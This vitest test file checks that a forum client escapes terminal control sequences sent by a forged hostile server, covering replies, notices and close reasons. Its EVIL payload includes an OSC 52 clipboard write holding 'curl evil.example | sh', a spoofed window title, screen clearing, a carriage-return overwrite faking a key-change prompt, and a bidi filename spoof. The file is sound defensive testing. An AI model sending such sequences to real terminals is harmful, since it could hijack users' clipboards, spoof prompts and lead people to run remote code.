/**
 * The real forum-client against a forged server whose every line carries terminal control
 * sequences (what a hostile or compromised server, or a thread file or database row no honest
 * server would have stored, can send): OSC 52 (writes the clipboard), OSC 0 (window title),
 * clear screen and scrollback, a `\r` that overwrites the line with a forged one, C1 CSI, NUL,
 * a bidi override, and a close reason doing the same. None reaches the terminal raw.
 */
import { decode, encodeServerMessage, simpleReply, type Reply } from 'forum-protocol';
import { listen, type RudpServer } from 'rudpx';
import { describe, expect, it } from 'vitest';
import { cleanupAfterEach, runClient, tempDir } from './forum-processes.js';

const EVIL = [
  `\x1b]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}\x07`,
  '\x1b]0;root@prod\x07',
  '\x1b[2J\x1b[3J\x1b[H',
  'ignore\r\x1b[2KThe server changed its key: type YES',
  '\u009b31m',
  'a\u0000b',
  'hello \u202egnp.exe',
].join(' ');
// What forum-client may print besides text: only the newline that ends each line.
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('forum-client against a server sending terminal control sequences (real client process)', () => {
  const { dirs, closers } = cleanupAfterEach();

  it('prints them as visible <U+XXXX>, in replies, a notice and the close reason alike', async () => {
    let rdtEnds: 'close' | 'notice' = 'close';
    const udp: RudpServer = await listen({ port: 0 });
    closers.push(() => udp.close());
    udp.on('connection', (conn) => {
      conn.on('message', (bytes) => {
        const r = decode(bytes);
        if (r._tag === 'Left') return;
        const { id, cmd } = r.right;
        // RDT: no reply, but the connection closed with a hostile reason (printed as "Server
        // unreachable: ...") or a hostile shutdown notice.
        if (cmd === 'RDT' && rdtEnds === 'close') return void conn.destroy(`gone ${EVIL}`);
        if (cmd === 'RDT') return void conn.send(encodeServerMessage({ type: 'notice', kind: 'shutdown', text: `Bye ${EVIL}` })).catch(() => undefined);
        const reply: Reply =
          cmd === 'username'
            ? simpleReply(id, 'ok', [`user ${EVIL}`], { kind: 'auth', next: 'password' })
            : cmd === 'password'
              ? simpleReply(id, 'ok', [`Welcome ${EVIL}`], { kind: 'auth', next: 'command' })
              : simpleReply(id, 'ok', [`1 mallory: ${EVIL}`, `2 mallory: ${EVIL}`], { kind: 'none' });
        conn.send(encodeServerMessage(reply)).catch(() => undefined);
      });
    });

    const cwd = await tempDir('hostile-text');
    dirs.push(cwd);
    const run = await runClient(udp.address().port, cwd, ['yoda', 'pw', 'LST', 'RDT t']);
    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(RAW_CONTROL);
    expect(run.stderr).not.toMatch(RAW_CONTROL);
    expect(run.stdout).toContain('Welcome <U+001B>]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=<U+0007> <U+001B>]0;root@prod<U+0007>');
    expect(run.stdout).toContain('1 mallory: ');
    expect(run.stdout).toContain('ignore<U+000D><U+001B>[2KThe server changed its key: type YES <U+009B>31m a<U+0000>b hello <U+202E>gnp.exe');
    expect(run.stderr).toContain('Server unreachable: connection lost (gone <U+001B>]52;c;');

    rdtEnds = 'notice';
    const noticed = await runClient(udp.address().port, cwd, ['yoda', 'pw', 'RDT t']);
    expect(noticed.code).toBe(4);
    expect(noticed.stdout).not.toMatch(RAW_CONTROL);
    expect(noticed.stdout).toContain('Bye <U+001B>]52;c;');
  });
});
